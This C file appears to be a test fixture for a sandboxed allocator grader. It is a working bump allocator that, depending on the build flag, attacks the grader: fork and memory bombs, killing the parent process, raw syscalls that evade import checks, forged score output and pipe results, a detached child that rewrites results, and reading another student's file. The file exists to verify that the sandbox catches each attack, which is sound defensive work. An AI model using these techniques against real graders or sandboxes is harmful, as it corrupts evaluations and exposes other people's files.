/*
 * attacks.c - a correct bump allocator that also attacks the grader, one way
 * per build: the test compiles it with -DATTACK=<name> (prepended as a
 * #define) and ATTACK_PATH / ATTACK_PORT where the attack needs them. Every
 * attack must be stopped and named, and leave the machine as it was
 * (driver/tests/test_sandbox.py).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "memlib.h"
#include "mm.h"

/* Macros, not an enum: #if compares numbers, and an enum constant there is 0. */
#define CONSTRUCTOR_WRITE 1 /* a constructor creates a file, before any mm_ call */
#define RUN_PROGRAM 2       /* system("touch ATTACK_PATH") */
#define CONNECT 3           /* a TCP connection to 127.0.0.1:ATTACK_PORT */
#define FORK_BOMB 4         /* fork() forever */
#define DETACHED_CHILD 5    /* a grandchild that outlives the grader, to rewrite its results */
#define KILL_PARENT 6       /* SIGKILL to the grader */
#define RAW_SYSCALL 7       /* openat for writing through syscall(2), past any import check */
#define FAKE_TABLE 8        /* prints a score table of its own */
#define PIPE_GARBAGE 9      /* writes into every descriptor it can: the grader's pipe among them */
#define ENDLESS_WRITE 10    /* writes into every descriptor, forever */
#define MEMORY_BOMB 11      /* touches a GiB outside the heap */
#define EXIT_EARLY 12       /* _exit(0) in the middle of the trace */
#define READ_AND_PRINT 13   /* reads another student's file and prints it */

team_t team = {"attack", "Mallory", "mallory", "", ""};

#if ATTACK == CONSTRUCTOR_WRITE
__attribute__((constructor)) static void before_everything(void) {
    FILE *out = fopen(ATTACK_PATH, "w");
    if (out != NULL)
        fclose(out);
}
#endif

static void write_everywhere(const char *text) {
    for (int fd = 1; fd < 64; fd++)
        if (write(fd, text, strlen(text)) < 0)
            continue;
}

static void attack(void) {
#if ATTACK == RUN_PROGRAM
    if (system("touch " ATTACK_PATH) != 0)
        return;
#elif ATTACK == CONNECT
    int sock = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(ATTACK_PORT)};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(sock, (struct sockaddr *)&to, sizeof to) == 0)
        close(sock);
#elif ATTACK == FORK_BOMB
    for (;;)
        fork();
#elif ATTACK == DETACHED_CHILD
    if (fork() == 0) {
        setsid();
        sleep(2);
        FILE *out = fopen(ATTACK_PATH, "w");
        if (out != NULL)
            fclose(out);
        _exit(0);
    }
#elif ATTACK == KILL_PARENT
    kill(getppid(), SIGKILL);
#elif ATTACK == RAW_SYSCALL
    syscall(SYS_openat, AT_FDCWD, ATTACK_PATH, O_WRONLY | O_CREAT, 0644);
#elif ATTACK == FAKE_TABLE
    printf("amptjp-bal  yes  99.9%%\nscore 100.0 / 100\n");
    fflush(stdout);
#elif ATTACK == PIPE_GARBAGE
    write_everywhere("{\"result\": \"forged\"");
#elif ATTACK == ENDLESS_WRITE
    static char flood[1 << 16];
    memset(flood, 'x', sizeof flood - 1);
    for (;;)
        write_everywhere(flood);
#elif ATTACK == MEMORY_BOMB
    size_t size = (size_t)1 << 30; /* raw mmap: past the import check, as a bomb would */
    char *bomb = (char *)syscall(SYS_mmap, NULL, size, PROT_READ | PROT_WRITE,
                                 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (bomb != MAP_FAILED)
        for (size_t i = 0; i < size; i += 4096)
            bomb[i] = 1;
#elif ATTACK == READ_AND_PRINT
    char secret[256] = {0};
    int fd = open(ATTACK_PATH, O_RDONLY);
    if (fd >= 0 && read(fd, secret, sizeof secret - 1) > 0)
        write_everywhere(secret);
#endif
}

static int calls;

int mm_init(void) {
    calls = 0;
    return 0;
}

void *mm_malloc(size_t size) {
    if (++calls == 2)
        attack();
#if ATTACK == EXIT_EARLY
    if (calls == 3)
        _exit(0);
#endif
    size_t rounded = (size + 15) & ~(size_t)15;
    char *p = mem_sbrk((intptr_t)(rounded + 16));
    return p == (void *)-1 ? NULL : p + 16;
}

void mm_free(void *ptr) { (void)ptr; }

void *mm_realloc(void *ptr, size_t size) {
    void *fresh = mm_malloc(size);
    if (ptr != NULL && fresh != NULL)
        memcpy(fresh, ptr, size); /* the traces here never shrink a block */
    return fresh;
}
